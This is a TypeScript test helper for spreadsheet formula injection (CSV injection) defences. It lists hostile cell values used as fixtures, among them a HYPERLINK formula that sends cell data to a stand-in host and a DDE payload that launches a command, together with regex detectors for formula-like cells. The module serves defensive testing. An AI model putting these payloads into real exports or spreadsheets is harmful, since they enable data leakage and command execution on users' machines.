import { parse } from 'csv-parse/sync'

/** Names that a form takes and a spreadsheet would run, or that would begin a cell or a line of their own. */
export const TYPED = [
  '=HYPERLINK("http://x.example/?"&A1,"y")',
  "+cmd|'/C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+1',
  'Ann;=1+1',
  'Ben;"=1+1',
  'Cy, "Ace"; -1',
]
/** Names that no form takes today, and an older installation may hold. */
export const STORED = [...TYPED, '\t=1+1', '\r=1+1', '\n=1+1', 'Dee\t=1+1', 'Eve\r\n=1+1']

const FORMULA = /^\s*[=+\-@\t\r\n＝＋－＠]/
const NUMBER = /^-?\d+(?:\.\d+)?(?:e[+-]?\d+)?$/
/** For programs that begin a cell at their own separator, whatever the quotes before it. */
const AFTER_SEPARATOR = /[;\t][ "]*[=+\-@＝＋－＠]/

/** What of a CSV file a spreadsheet would run: one that reads RFC 4180, one that offers three separators, and one that has its own. */
export function formulasIn(text: string): string[] {
  const cells = [',', [',', ';', '\t']].flatMap((delimiter): string[] => {
    const rows: string[][] = parse(text, { bom: true, delimiter, relax_column_count: true })
    return rows.flat()
  })
  return [...cells.filter((cell) => FORMULA.test(cell) && !NUMBER.test(cell)), ...(AFTER_SEPARATOR.exec(text) ?? [])]
}

/** How many cells of a CSV file hold one of the hostile names, defused or not. */
export function hostileCellsOf(text: string): number {
  const rows: string[][] = parse(text, { bom: true, relax_column_count: true })
  const plain = (cell: string) => cell.replaceAll(/['\s]/g, '')
  return rows.flat().filter((cell) => STORED.some((name) => plain(cell).includes(plain(name)))).length
}
